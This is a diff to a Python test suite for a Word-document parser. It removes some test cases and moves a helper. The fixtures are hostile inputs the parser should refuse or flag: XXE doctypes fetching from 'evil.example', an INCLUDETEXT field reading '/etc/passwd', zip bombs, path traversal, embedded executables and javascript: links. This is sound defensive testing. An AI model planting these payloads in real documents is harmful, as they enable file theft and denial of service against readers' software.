@@ -17,6 +17,7 @@ from tests.word.cases import AGREED, LABELS
 from tests.word.made import (
     DECLARED,
     DOCUMENT,
+    control,
     document,
     edited,
     p,
@@ -162,8 +163,6 @@ REFUSED: Mapping[str, tuple[Callable[[], bytes], str, str]] = {
     "nothing at all": (lambda: b"", "empty", ""),
     "bytes without sense": (lambda: b"\x07" * 900, "kind", ""),
     "a document of Word 97": (lambda: OLE + b"\0" * 900, "old", ""),
-    "a document with a password": (
-        lambda: OLE + "EncryptedPackage".encode("utf-16-le") * 9, "old", ""),
     "a PDF": (lambda: b"%PDF-1.7\n%%EOF", "pdf", ""),
     "a file in RTF": (lambda: b"{\\rtf1 hello}", "rtf", ""),
     "a page of the web": (lambda: b"<html><script>alert(1)</script></html>", "html", ""),
@@ -201,11 +200,6 @@ REFUSED: Mapping[str, tuple[Callable[[], bytes], str, str]] = {
         lambda: with_part("word/setup.exe", b"MZ"), "embedded", "word/setup.exe"),
     "an entity of the disk": (lambda: before_root(DOCTYPE), "dtd", DOCUMENT),
     "entities without end": (lambda: before_root(LAUGHS), "dtd", DOCUMENT),
-    "a document type elsewhere": (
-        lambda: before_root('<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">'), "dtd", DOCUMENT),
-    "a parameter that fetches": (
-        lambda: before_root('<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/"> %a;]>'),
-        "dtd", DOCUMENT),
     "a document type in UTF-16": (lambda: utf_16(f"{DOCTYPE}<x/>"), "dtd", DOCUMENT),
     "a document type among the relations": (
         lambda: before_root(DOCTYPE, RELATIONS), "dtd", RELATIONS),
@@ -229,9 +223,6 @@ REFUSED: Mapping[str, tuple[Callable[[], bytes], str, str]] = {
         lambda: replaced(SOUND, 'encoding="UTF-8"', 'encoding="UTF-7"'), "encoding", DOCUMENT),
     "a text that grows": (
         lambda: with_part(DOCUMENT, b"<x>" + b" " * 9_000_000 + b"</x>"), "bomb", DOCUMENT),
-    "a part that nobody needs and that grows": (
-        lambda: with_part("word/media/image1.png", bytes(9_000_000)),
-        "bomb", "word/media/image1.png"),
     "parts without end": (
         lambda: packed({f"{number}.xml": b"<x/>" for number in range(2_001)}), "parts", "2,001"),
     "a part above its folder": (
@@ -240,7 +231,6 @@ REFUSED: Mapping[str, tuple[Callable[[], bytes], str, str]] = {
     "a part at the root": (lambda: archive(zipfile.ZIP_DEFLATED, "/etc/x"), "paths", "/etc/x"),
     "a part on a drive": (
         lambda: archive(zipfile.ZIP_DEFLATED, "C:\\Windows\\x"), "paths", "C:\\Windows\\x"),
-    "two texts of one name": (lambda: twice(DOCUMENT), "twice", ""),
     "two texts of nearly one name": (lambda: twice("Word/Document.xml"), "twice", ""),
     "parts with a password": (locked, "password", "[Content_Types].xml"),
     "packed by other means": (
@@ -327,14 +317,6 @@ def answered(**said: str) -> bytes:
     return document(table(*own.items()) + AGREED)
 
 
-def control(tag: str, text: str) -> str:
-    """A control with a tag."""
-    return (
-        f"<w:sdt><w:sdtPr><w:tag w:val='{tag}'/></w:sdtPr><w:sdtContent>{p(text)}</w:sdtContent>"
-        "</w:sdt>"
-    )
-
-
 READ: Mapping[str, tuple[Callable[[], bytes], str, str]] = {
     "a picture elsewhere": (
         lambda: with_relation("image", "https://spy.example/p.png", is_outside=True),
@@ -354,12 +336,6 @@ READ: Mapping[str, tuple[Callable[[], bytes], str, str]] = {
     "a field that takes in a file": (
         lambda: answered(Context=p(field('INCLUDETEXT "/etc/passwd"'), ".[1]")),
         '- INCLUDETEXT "/etc/passwd"\n', "passwd"),
-    "data for a serial letter": (
-        lambda: with_relation("mailMergeSource", "file:///c:/people.mdb", is_outside=True),
-        "- file:///c:/people.mdb\n", "people.mdb"),
-    "notes elsewhere": (
-        lambda: with_relation("footnotes", "https://evil.example/n.xml", is_outside=True),
-        "- https://evil.example/n.xml\n", "evil.example"),
     "a link that runs": (
         lambda: answered(Context=p(field('HYPERLINK "javascript:alert(1)"'), ".[1]")),
         "Made out/", "javascript"),
